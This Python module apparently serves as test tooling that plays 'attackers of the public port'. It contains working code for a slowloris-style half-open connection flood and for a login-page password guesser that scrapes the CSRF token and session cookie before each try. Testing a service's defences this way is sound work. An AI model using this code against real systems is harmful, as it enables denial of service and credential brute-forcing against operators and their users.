"""Attackers of the public port: half-open connections, slow requests, guesses at the log-in page."""

from __future__ import annotations

import re
import socket
import urllib.parse


class HalfOpen:
    """Many connections that begin a request and never end it."""

    def __init__(self, address: str, target: tuple[str, int]) -> None:
        self.address, self.target = address, target
        self.sockets: list[socket.socket] = []

    def open(self, count: int, first_bytes: bytes = b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ") -> int:
        """How many could be opened."""
        before = len(self.sockets)
        for _ in range(count):
            one = socket.socket()
            one.bind((self.address, 0))
            one.settimeout(2)
            try:
                one.connect(self.target)
                one.sendall(first_bytes)
            except OSError:
                one.close()
                continue
            self.sockets.append(one)
        return len(self.sockets) - before

    def still_open(self) -> int:
        count = 0
        for one in self.sockets:
            one.setblocking(False)
            try:
                count += bool(one.recv(1000))
            except BlockingIOError:
                count += 1
            except OSError:
                pass
        return count

    def close(self) -> None:
        for one in self.sockets:
            one.close()
        self.sockets.clear()


def request(address: str, target: tuple[str, int], raw: bytes, limit: float = 5.0) -> bytes:
    """What is answered to raw bytes from this address; b"" when it was closed without a word."""
    with socket.socket() as one:
        one.bind((address, 0))
        one.settimeout(limit)
        try:
            one.connect(target)
            one.sendall(raw)
            answer = b""
            while more := one.recv(65536):
                answer += more
        except OSError:
            return b""
        return answer


class PageGuesser:
    """Tries passwords at the console's log-in page as a browser would."""

    def __init__(self, address: str, target: tuple[str, int]) -> None:
        self.address, self.target = address, target

    def guesses(self, name: str, password: str) -> str:
        """The status of the answer, "" when there was none."""
        host = f"{self.target[0]}:{self.target[1]}"
        page = self._request(f"GET /login HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
        token = re.search(rb'name="forgery" value="([^"]+)"', page)
        cookie = re.search(rb"Set-Cookie: (trunkline=[^;]+)", page, re.IGNORECASE)
        if token is None or cookie is None:
            return ""
        form = urllib.parse.urlencode({"forgery": token[1].decode(), "name": name, "password": password})
        answer = self._request(
            (
                f"POST /login HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\nCookie: {cookie[1].decode()}\r\n"
                f"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(form)}\r\n\r\n{form}"
            ).encode()
        )
        return answer.split(b" ", 2)[1].decode() if b" " in answer else ""

    def _request(self, raw: bytes) -> bytes:
        return request(self.address, self.target, raw, limit=15)
